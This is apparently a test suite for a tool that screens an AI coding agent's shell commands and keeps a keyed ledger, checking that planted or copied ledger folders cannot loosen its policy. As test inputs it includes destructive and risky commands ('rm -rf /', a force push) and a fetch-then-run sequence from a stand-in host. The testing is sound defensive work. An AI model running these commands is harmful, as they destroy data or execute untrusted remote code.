/**
 * A `.tokenauditor` that a clone or an archive brings along, key and all, decides nothing; one that was made here goes on
 * wherever it is moved to, by whatever name it is reached.
 */
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { HookJudging } from '../../src/doors/hook/judging.ts';
import { foldLedger } from '../../src/evidence/folds/fold.ts';
import { adoptLedger, beginFolder, isStranger } from '../../src/evidence/keys/adoption.ts';
import { openLedger } from '../../src/evidence/ledger.ts';
import { verifyLedger } from '../../src/evidence/verifying/verify.ts';
import { setAside } from '../../src/evidence/writing/set-aside.ts';
import type { Ports } from '../../src/ports/files.ts';
import { pinsFold } from '../../src/quarantine/pins.ts';
import { PinBook } from '../../src/quarantine/review.ts';
import { acceptSettings } from '../../src/road/policy/accepted-settings.ts';
import { stampInForce } from '../../src/road/policy/settings-stamp.ts';
import { compilePolicy } from '../../src/road/policy.ts';
import { clock } from '../../src/world/clock.ts';
import { files } from '../../src/world/files.ts';
import { processes } from '../../src/world/processes.ts';
import { random } from '../../src/world/random.ts';

const RISKY = 'git push --force origin main';
const LOOSE = JSON.stringify({ explicit_allow: true, screen_results: false });
let root: string;
let home: string;
/** Of the one who plants. */
let other: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tokenauditor-planted-'));
  home = join(root, 'home');
  other = join(root, 'other');
  for (const each of [home, other]) mkdirSync(each, { mode: 0o700 });
});
afterEach(() => rmSync(root, { recursive: true, force: true, maxRetries: 10 }));

const portsOf = (whose: string): Ports => ({ files, clock, random, processes, home: whose });
const ledgerIn = (folder: string) => join(folder, '.tokenauditor');
const eventsIn = (folder: string): string[] => {
  const path = join(ledgerIn(folder), 'events.jsonl');
  return existsSync(path) ? readFileSync(path, 'utf8').split('\n').slice(0, -1) : [];
};

async function ask(folder: string, command = RISKY, whose = home, session = 's'): Promise<string> {
  const judging = new HookJudging({
    directory: ledgerIn(folder),
    ports: portsOf(whose),
    version: '1',
    home: whose,
    lockWaitMs: 1000,
    compile: compilePolicy,
  });
  const event = { hook_event_name: 'PreToolUse', session_id: session, cwd: folder, tool_name: 'Bash' };
  const { stdout } = await judging.answer('claude-code', {
    payload: JSON.stringify({ ...event, tool_input: { command } }),
  });
  await judging.close();
  return /"permissionDecision":"(\w+)"/.exec(stdout)?.[1] ?? 'nothing';
}

/** A project with a ledger that was made under this home. */
async function made(name: string, whose: string): Promise<string> {
  const folder = join(whose, name);
  mkdirSync(folder, { recursive: true });
  const answer = await ask(folder, RISKY, whose);
  expect([answer, eventsIn(folder).length > 1]).toEqual(['ask', true]);
  return folder;
}

/** The other's project in the user's home, with modes and all, as an archive brings it. */
async function planted(
  name = 'clone',
  prepare: (folder: string) => unknown = () => undefined,
): Promise<string> {
  const folder = await made('repo', other);
  await prepare(folder);
  const clone = join(home, name);
  cpSync(folder, clone, { recursive: true, preserveTimestamps: true });
  chmodSync(ledgerIn(clone), 0o700);
  return clone;
}

describe('a planted folder', () => {
  test('is not written to, and the user’s own ledger has the event', async () => {
    const clone = await planted();
    const before = readFileSync(join(ledgerIn(clone), 'events.jsonl'));
    expect(await ask(clone)).toBe('ask');
    expect(readFileSync(join(ledgerIn(clone), 'events.jsonl'))).toEqual(before);
    expect(eventsIn(home).length).toBeGreaterThan(1);
  });

  const SETTINGS = [LOOSE, '{"policy":{"gate":{"require_approval_for_network":false}}}', '{"broken":'];
  test.each(SETTINGS)('with settings %s', async (text) => {
    const clone = await planted('clone', (folder) =>
      writeFileSync(join(ledgerIn(folder), 'hooks.json'), text, { mode: 0o600 }),
    );
    expect([await ask(clone, 'ls'), await ask(clone, 'rm -rf /')]).toEqual(['nothing', 'deny']);
  });

  test('with settings that its own maker accepted', async () => {
    const clone = await planted('clone', (folder) => {
      writeFileSync(join(ledgerIn(folder), 'hooks.json'), LOOSE, { mode: 0o600 });
      acceptSettings(
        [ledgerIn(folder), join(home, 'clone', '.tokenauditor')],
        Buffer.from(LOOSE),
        other,
        portsOf(other),
      );
    });
    cpSync(join(other, '.tokenauditor', 'state'), join(ledgerIn(clone), 'state'), { recursive: true });
    expect([await ask(clone, 'ls'), await ask(clone, 'rm -rf /')]).toEqual(['nothing', 'deny']);
  });

  test('with the note that says whose it is, put into the project', async () => {
    const clone = await planted();
    cpSync(join(other, '.tokenauditor', 'projects'), join(ledgerIn(clone), 'projects'), { recursive: true });
    expect(isStranger(ledgerIn(clone), portsOf(home))).toBe(true);
  });

  test('with compiled state: what it left for the quick path is of another stamp', async () => {
    const clone = await planted();
    const kept = JSON.parse(readFileSync(join(ledgerIn(clone), 'state/policy.json'), 'utf8'));
    expect(kept.stamp).not.toBe(stampInForce(ledgerIn(clone), portsOf(home), home));
    await ask(clone);
    const after = JSON.parse(readFileSync(join(ledgerIn(clone), 'state/policy.json'), 'utf8'));
    expect(after).toEqual(kept);
  });

  test('while a session goes on: what it fetched is remembered in the user’s ledger', async () => {
    const clone = await planted();
    const run = 'sh ./tools/x.sh';
    expect(await ask(clone, run, home, 'another')).toBe('nothing');
    expect(await ask(clone, 'curl -o tools/x.sh https://stranger.example/x.sh', home, 'one')).toBe('nothing');
    expect(await ask(clone, run, home, 'one')).toBe('ask');
  });

  test('with pins: they count for nothing, and are read', async () => {
    const clone = await planted('clone', async (folder) => {
      const ledger = openLedger(ledgerIn(folder), portsOf(other));
      await ledger.append({ type: 'definition.pin', definition_id: ledger.digest('a'), trust: 'auto' });
      await ledger.close();
    });
    const theirs = await foldLedger(ledgerIn(join(other, 'repo')), portsOf(other), pinsFold);
    expect(Object.keys(theirs.state.trust)).toHaveLength(1);
    const ours = await foldLedger(ledgerIn(clone), portsOf(home), pinsFold);
    expect([Object.keys(ours.state.trust), ours.broken > 0]).toEqual([[], true]);
    expect((await PinBook.read(ledgerIn(clone), portsOf(home))).isOwn).toBe(false);
  });

  test('with snapshots of pins', async () => {
    const clone = await planted('clone', (folder) => foldLedger(ledgerIn(folder), portsOf(other), pinsFold));
    expect((await foldLedger(ledgerIn(clone), portsOf(home), pinsFold)).state).toEqual(pinsFold.initial());
  });

  const VERBS: readonly (readonly [string, (directory: string) => unknown])[] = [
    ['recording', (directory) => openLedger(directory, portsOf(home))],
    ['rotating the key', (directory) => openLedger(directory, portsOf(home)).rotateKey()],
  ];
  test.each(VERBS)('%s is refused, with the remedy', async (_, work) => {
    const clone = await planted();
    expect(() => work(ledgerIn(clone))).toThrow('it was not made by you on this machine');
  });

  test('under a path where a ledger of the user’s was', async () => {
    const own = await made('clone', home);
    rmSync(own, { recursive: true });
    const clone = await planted('clone');
    expect(isStranger(ledgerIn(clone), portsOf(home))).toBe(true);
  });

  test('in place of the key of a ledger of the user’s', async () => {
    const own = await made('own', home);
    const clone = await planted();
    cpSync(join(ledgerIn(clone), 'key'), join(ledgerIn(own), 'key'));
    expect(isStranger(ledgerIn(own), portsOf(home))).toBe(true);
    expect(await ask(own, 'rm -rf /')).toBe('deny');
  });

  test('as a link to the other’s', async () => {
    const theirs = await made('repo', other);
    const clone = join(home, 'clone');
    mkdirSync(clone);
    symlinkSync(ledgerIn(theirs), ledgerIn(clone));
    const before = eventsIn(join(other, 'repo'));
    expect([await ask(clone, 'rm -rf /'), await ask(clone)]).toEqual(['deny', 'ask']);
    expect(eventsIn(join(other, 'repo'))).toEqual(before);
  });

  test('as a link to a ledger of the user’s', async () => {
    const own = await made('own', home);
    const clone = join(home, 'clone');
    mkdirSync(clone);
    symlinkSync(ledgerIn(own), ledgerIn(clone));
    const before = eventsIn(own);
    expect([await ask(clone), eventsIn(own)]).toEqual(['ask', before]);
  });

  test('as a file, and as a pipe of a key', async () => {
    const clone = join(home, 'clone');
    mkdirSync(clone);
    writeFileSync(ledgerIn(clone), 'x');
    expect(await ask(clone)).toBe('ask');
  });

  test.each<[string, readonly string[]]>([
    ['empty', []],
    ['with a README', ['README.md']],
    [
      'with settings, a PIN, a socket folder and a token',
      ['hooks.json', 'person.key', 'state/gateway-token'],
    ],
  ])(
    'without a key, %s: nothing is made in it, and the user’s own ledger has the event',
    async (_, names) => {
      const clone = join(home, 'clone');
      mkdirSync(join(ledgerIn(clone), 'state'), { recursive: true, mode: 0o700 });
      for (const name of names) writeFileSync(join(ledgerIn(clone), name), LOOSE, { mode: 0o600 });
      const before = readdirSync(ledgerIn(clone), { recursive: true });
      expect([await ask(clone, 'ls'), await ask(clone), await ask(clone, 'rm -rf /')]).toEqual([
        'nothing',
        'ask',
        'deny',
      ]);
      expect(readdirSync(ledgerIn(clone), { recursive: true })).toEqual(before);
      expect(eventsIn(home).length).toBeGreaterThan(1);
    },
  );

  test('without a key where a ledger of the user’s was, and where one was begun and left', async () => {
    const own = await made('clone', home);
    rmSync(ledgerIn(own), { recursive: true });
    mkdirSync(ledgerIn(own), { mode: 0o700 });
    expect(isStranger(ledgerIn(own), portsOf(home))).toBe(true);
    // Begun by the user: a crash came before its key was made.
    rmSync(ledgerIn(own), { recursive: true });
    beginFolder(ledgerIn(own), portsOf(home));
    mkdirSync(ledgerIn(own), { mode: 0o700 });
    expect(isStranger(ledgerIn(own), portsOf(home))).toBe(false);
    await ask(own);
    expect(eventsIn(own).length).toBeGreaterThan(1);
    expect(
      readdirSync(join(home, '.tokenauditor/projects')).filter((name) => name.startsWith('begun')),
    ).toEqual([]);
  });

  test('one of the user’s that lost its key is reported, not passed over', async () => {
    const own = await made('own', home);
    rmSync(join(ledgerIn(own), 'key'));
    expect([isStranger(ledgerIn(own), portsOf(home)), await ask(own)]).toEqual([false, 'deny']);
  });

  test('with a key that others may read, as git makes it', async () => {
    const clone = await planted();
    chmodSync(join(ledgerIn(clone), 'key'), 0o644);
    expect(await ask(clone)).toBe('ask');
    const own = await made('own', home);
    chmodSync(join(ledgerIn(own), 'key'), 0o644);
    expect(await ask(own)).toBe('deny');
  });

  test('below a project of the user’s: that project’s ledger and policy count', async () => {
    const own = await made('own', home);
    writeFileSync(
      join(own, 'tokenauditor.yaml'),
      'version: 1\nrules: [{id: none, action: deny, when: {command: ls}}]\n',
      { mode: 0o600 },
    );
    const clone = await planted('own/vendor/clone', (folder) => mkdirSync(join(folder, '.git')));
    const before = eventsIn(own).length;
    expect([await ask(clone, 'ls'), await ask(clone, 'rm -rf /')]).toEqual(['deny', 'deny']);
    expect([eventsIn(own).length > before, isStranger(ledgerIn(clone), portsOf(home))]).toEqual([true, true]);
  });

  test('with a copy of the user’s own key, while the first is there', async () => {
    const own = await made('own', home);
    cpSync(own, join(home, 'fork'), { recursive: true });
    expect(isStranger(ledgerIn(join(home, 'fork')), portsOf(home))).toBe(true);
    expect(isStranger(ledgerIn(own), portsOf(home))).toBe(false);
  });

  test('with a plan to set the ledger aside', async () => {
    const clone = await planted('clone', (folder) => setAside(ledgerIn(folder), portsOf(other)));
    const before = readdirSync(ledgerIn(clone)).sort();
    await ask(clone);
    expect(readdirSync(ledgerIn(clone)).sort()).toEqual(before);
  });

  test('verifies, and is not the user’s', async () => {
    const clone = await planted();
    const { ok, adopted } = await verifyLedger(ledgerIn(clone), portsOf(home));
    expect([ok, adopted]).toEqual([true, false]);
  });

  test('where nothing can be noted, nothing is made', async () => {
    const fresh = join(home, 'fresh');
    mkdirSync(fresh);
    writeFileSync(join(home, '.tokenauditor'), 'in the way');
    expect(await ask(fresh)).toBe('deny');
    expect(existsSync(join(ledgerIn(fresh), 'key'))).toBe(false);
  });

  test('a note that others could have written is none', async () => {
    const own = await made('own', home);
    const notes = join(home, '.tokenauditor/projects');
    const [name = ''] = readdirSync(notes);
    chmodSync(join(notes, name), 0o666);
    expect(await ask(own)).toBe('deny');
  });

  test('a note that is not understood is none', async () => {
    const own = await made('own', home);
    const notes = join(home, '.tokenauditor/projects');
    const [name = ''] = readdirSync(notes);
    writeFileSync(join(notes, name), '{"version":9}');
    expect(isStranger(ledgerIn(own), portsOf(home))).toBe(true);
  });
});

describe('a ledger of the user’s', () => {
  const isOurs = (folder: string, whose = home) => !isStranger(ledgerIn(folder), portsOf(whose));

  test('goes on in a folder that was moved, and after that', async () => {
    const own = await made('own', home);
    const moved = join(home, 'elsewhere', 'moved');
    mkdirSync(join(home, 'elsewhere'));
    renameSync(own, moved);
    expect([isOurs(moved), await ask(moved), isOurs(moved)]).toEqual([true, 'ask', true]);
    renameSync(moved, own);
    expect(isOurs(own)).toBe(true);
  });

  test('is the same through a link to its project, and to its home', async () => {
    const own = await made('own', home);
    symlinkSync(own, join(home, 'link'));
    symlinkSync(home, join(root, 'home-link'));
    expect(isOurs(join(home, 'link'))).toBe(true);
    expect(isOurs(join(root, 'home-link', 'own'), join(root, 'home-link'))).toBe(true);
  });

  test('keeps its note when its key is rotated', async () => {
    const own = await made('own', home);
    const ledger = openLedger(ledgerIn(own), portsOf(home));
    await ledger.rotateKey();
    await ledger.close();
    expect([isOurs(own), await ask(own)]).toEqual([true, 'ask']);
  });

  test('is begun anew, with the same note, when it was set aside', async () => {
    const own = await made('own', home);
    setAside(ledgerIn(own), portsOf(home));
    expect([isOurs(own), await ask(own)]).toEqual([true, 'ask']);
  });

  test('is made new where a stranger’s was set aside', async () => {
    const clone = await planted();
    setAside(ledgerIn(clone), portsOf(home));
    expect([isOurs(clone), await ask(clone)]).toEqual([true, 'ask']);
    expect(eventsIn(home)).toEqual([]);
  });

  test('is one that a person adopts', async () => {
    const clone = await planted();
    adoptLedger(ledgerIn(clone), portsOf(home));
    const before = eventsIn(clone).length;
    expect([isOurs(clone), await ask(clone), eventsIn(clone).length > before]).toEqual([true, 'ask', true]);
  });

  test('is not one whose settings were accepted: these vouch for no ledger', async () => {
    const clone = await planted();
    const text = JSON.stringify({ explicit_allow: true });
    writeFileSync(join(ledgerIn(clone), 'hooks.json'), text, { mode: 0o600 });
    acceptSettings([ledgerIn(clone)], Buffer.from(text), home, portsOf(home));
    expect([await ask(clone, 'ls'), await ask(clone), isOurs(clone)]).toEqual(['nothing', 'ask', false]);
    adoptLedger(ledgerIn(clone), portsOf(home));
    expect([await ask(clone, 'ls'), isOurs(clone)]).toEqual(['allow', true]);
  });

  test('of an earlier version locks nothing out: calls are judged, and recorded in the home', async () => {
    const own = await made('own', home);
    rmSync(join(home, '.tokenauditor/projects'), { recursive: true });
    expect([await ask(own), await ask(own, 'rm -rf /'), await ask(own, 'ls')]).toEqual([
      'ask',
      'deny',
      'nothing',
    ]);
    expect(eventsIn(home).length).toBeGreaterThan(2);
  });

  test('in the home itself needs no note', async () => {
    expect(await ask(home)).toBe('ask');
    expect([isOurs(home), existsSync(join(home, '.tokenauditor/projects'))]).toEqual([true, false]);
  });

  test('in a home on another mount, by whatever name', async () => {
    await ask(home);
    symlinkSync(home, join(root, 'mnt'));
    expect(isOurs(join(root, 'mnt'), home)).toBe(true);
    expect(isOurs(home, join(root, 'mnt'))).toBe(true);
  });

  test('in a container that has the project at another path', async () => {
    const own = await made('own', home);
    const mounted = join(root, 'workspace');
    renameSync(own, mounted);
    expect([isOurs(mounted), await ask(mounted)]).toEqual([true, 'ask']);
  });

  test('in a container with a home of its own: judged by that, and locked out of nothing', async () => {
    const own = await made('own', home);
    const inner = join(root, 'container-home');
    mkdirSync(inner, { mode: 0o700 });
    expect([await ask(own, RISKY, inner), await ask(own, 'rm -rf /', inner)]).toEqual(['ask', 'deny']);
    expect([isOurs(own, inner), eventsIn(inner).length > 1]).toEqual([false, true]);
  });

  test('in CI: a fresh home and a fresh checkout, twice', async () => {
    for (const name of ['runner-1', 'runner-2']) {
      const runner = join(root, name);
      mkdirSync(runner, { mode: 0o700 });
      const work = await made('work/repo', runner);
      expect(isOurs(work, runner)).toBe(true);
    }
  });

  test('beside others: each has its note', async () => {
    const all = [];
    for (const name of ['a', 'b', 'c', 'd']) all.push(await made(name, home));
    expect(all.map((folder) => isOurs(folder))).toEqual([true, true, true, true]);
    expect(readdirSync(join(home, '.tokenauditor/projects'))).toHaveLength(4);
  });

  test('is quick again after another was made', async () => {
    const own = await made('own', home);
    await made('second', home);
    await ask(own);
    const kept = JSON.parse(readFileSync(join(ledgerIn(own), 'state/policy.json'), 'utf8'));
    expect(kept.stamp).toBe(stampInForce(ledgerIn(own), portsOf(home), home));
  });

  test('with blanks, quotes and other letters in its path', async () => {
    for (const name of [`it's "mine"`, 'проект', 'a\nb']) expect(isOurs(await made(name, home))).toBe(true);
  });

  test('without a user nothing is noted, as in a program that keeps a single ledger', async () => {
    const folder = join(root, 'single');
    mkdirSync(folder);
    const ports = { files, clock, random, processes };
    for (const _ of [1, 2]) await openLedger(ledgerIn(folder), ports).close();
    expect(isStranger(ledgerIn(folder), ports)).toBe(false);
  });
});
